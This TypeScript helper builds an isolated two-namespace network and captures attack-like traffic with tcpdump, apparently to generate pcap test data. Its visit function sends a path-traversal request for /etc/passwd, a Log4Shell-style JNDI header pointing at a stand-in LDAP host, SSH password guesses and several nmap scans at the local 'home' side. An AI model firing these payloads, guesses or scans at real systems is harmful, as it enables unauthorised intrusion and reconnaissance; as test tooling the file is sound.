import { once } from 'node:events';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeWire, type Wire } from './netns.ts';
import { readPcap } from './pcap/file.ts';
import type { Packet } from './pcap/frame.ts';
import { until } from './wait.ts';

/** Longest wait for a server to answer or for the capture to be written. */
const PATIENCE_MS = 20_000;

/** What real programs say to each other in two namespaces, as tcpdump heard it; times count from the first packet. Needs root. */
export async function captureRealPrograms(folder: string): Promise<Packet[]> {
  mkdirSync(folder, { recursive: true });
  const wire = makeWire();
  const pcap = join(folder, 'captured.pcap');
  try {
    await startServers(wire, folder);
    const dump = wire.start('home', [
      'tcpdump',
      '-i',
      wire.interface,
      '-U',
      '--immediate-mode',
      '-Z',
      'root',
      '-w',
      pcap,
    ]);
    await until('tcpdump has begun its file', () => sizeOf(pcap) >= 24, PATIENCE_MS);
    visit(wire, folder);
    // The last thing said: when it is in the file, so is everything before it.
    wire.run(
      'attacker',
      ['hping3', '--udp', '--count', '1', '-p', '9', '--sign', 'the end', '--data', '7', wire.homeIp],
      { mayFail: true },
    );
    await until(
      'the last packet is written',
      () => sizeOf(pcap) > 0 && readFileSync(pcap).includes('the end'),
      PATIENCE_MS,
    );
    dump.kill('SIGTERM');
    await once(dump, 'close');
  } finally {
    await wire.close();
  }
  const packets = readPcap(readFileSync(pcap));
  const first = packets[0]?.time ?? 0;
  return packets.map((packet) => ({ time: packet.time - first, frame: packet.frame }));
}

function sizeOf(file: string): number {
  try {
    return readFileSync(file).length;
  } catch {
    return 0;
  }
}

/** nginx, dnsmasq, sshd and a mail sink on the home side, each tried until it answers. */
async function startServers(wire: Wire, folder: string): Promise<void> {
  const conf = join(folder, 'nginx.conf');
  const page =
    'location / { return 200 "hello from home\\n"; } location /old { return 301 /new; } location /closed { return 403; }';
  writeFileSync(
    conf,
    `daemon off; pid ${folder}/nginx.pid; error_log ${folder}/nginx.log; events {} http { access_log off; server { listen 80; listen [::]:80; ${page} } }`,
  );
  wire.start('home', ['nginx', '-c', conf]);
  wire.start('home', [
    'dnsmasq',
    '--keep-in-foreground',
    '--conf-file=/dev/null',
    '--no-resolv',
    '--no-hosts',
    '--address=/www.home.test/192.168.40.11',
    '--local=/home.test/',
    '--txt-record=home.test,nobody lives here',
    '--mx-host=home.test,server.home.test,10',
    '--pid-file=',
    '--user=root',
  ]);
  wire.start('home', ['/usr/bin/aiosmtpd', '-n', '-l', `${wire.homeIp}:25`, '-c', 'aiosmtpd.handlers.Sink']);
  for (const name of ['host', 'user'])
    wire.run('home', ['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', join(folder, name)]);
  mkdirSync('/run/sshd', { recursive: true });
  wire.start('home', [
    '/usr/sbin/sshd',
    '-D',
    '-f',
    '/dev/null',
    '-h',
    join(folder, 'host'),
    '-o',
    'PidFile=none',
    '-o',
    `AuthorizedKeysFile=${folder}/user.pub`,
    '-o',
    'StrictModes=no',
    '-o',
    'PermitRootLogin=yes',
  ]);
  for (const port of ['22', '25', '53', '80']) {
    await until(`port ${port} answers`, () => answers(wire, port), PATIENCE_MS);
  }
}

function answers(wire: Wire, port: string): boolean {
  try {
    wire.run('attacker', ['nc', '-z', '-w', '1', wire.homeIp, port]);
    return true;
  } catch {
    return false; // Not yet: the program has only just been started.
  }
}

/** The programs that come to see them. */
function visit(wire: Wire, folder: string): void {
  const attack = (...command: string[]): string => wire.run('attacker', command, { mayFail: true });
  const web = `http://${wire.homeIp}`;
  const curl = ['curl', '--silent', '--interface', wire.attackerIp];
  attack(...curl, `${web}/`);
  attack(...curl, '--compressed', '--head', `${web}/index.html`);
  attack(...curl, '--location', `${web}/old`);
  attack(...curl, '--form', 'file=@/etc/services;filename=services.txt', `${web}/upload`);
  attack(...curl, '--user', 'admin:admin', '--path-as-is', `${web}/../../../../etc/passwd`);
  attack(...curl, '--header', 'X-Api: ${jndi:ldap://203.0.113.31/a}', `${web}/closed`);
  attack('curl', '--silent', '-6', `http://[${wire.homeIp6}]/six`);
  for (const [name, type] of [
    ['www.home.test', 'A'],
    ['gone.home.test', 'AAAA'],
    ['home.test', 'TXT'],
    ['home.test', 'MX'],
    ['version.bind', 'CHAOS'],
  ] as const) {
    attack('dig', '+tries=1', '+time=2', `@${wire.homeIp}`, name, ...(type === 'CHAOS' ? ['CH', 'TXT'] : [type]));
  }
  attack('dig', '+tcp', '+tries=1', '+time=2', `@${wire.homeIp}`, 'home.test', 'ANY');
  attack(
    'swaks',
    '--server',
    wire.homeIp,
    '--local-interface',
    wire.attackerIp,
    '--helo',
    'mail.example.com',
    '--from',
    'swaks@example.com',
    '--to',
    'anna@home.test',
    '--header',
    'Subject: =?utf-8?B?U25lZsO4cmU=?=',
    '--attach-type',
    'text/plain',
    '--attach-name',
    'ski.txt',
    '--attach',
    'klister',
  );
  const ssh = [
    '-p',
    '22',
    '-b',
    wire.attackerIp,
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-F',
    '/dev/null',
  ];
  attack('ssh', '-i', join(folder, 'user'), ...ssh, `root@${wire.homeIp}`, 'true');
  for (const guess of ['123456', 'raspberry', 'letmein'])
    attack(
      'sshpass',
      '-p',
      guess,
      'ssh',
      ...ssh,
      '-o',
      'PreferredAuthentications=password',
      `admin@${wire.homeIp}`,
      'true',
    );
  const device = /dev (\S+)/.exec(attack('ip', '-o', 'route', 'get', wire.homeIp))?.[1] ?? '';
  const nmap = ['nmap', '-n', '-Pn', '--max-retries', '0', '-S', wire.attackerIp, '-e', device];
  attack(...nmap, '-sS', '-sV', '--version-light', '-O', '-p', '22,25,53,80,443', wire.homeIp);
  attack(...nmap, '-sS', '-T5', '-p', '1-120', wire.homeIp);
  attack(...nmap, '-sX', '-p', '20-25', wire.homeIp);
  attack(...nmap, '-sU', '-p', '53,69,123,161', wire.homeIp);
  attack(...nmap, '-sS', '-f', '-p', '22,80', wire.homeIp);
  attack('nmap', '-n', '-6', '-Pn', '-sT', '-p', '22,80', wire.homeIp6);
}
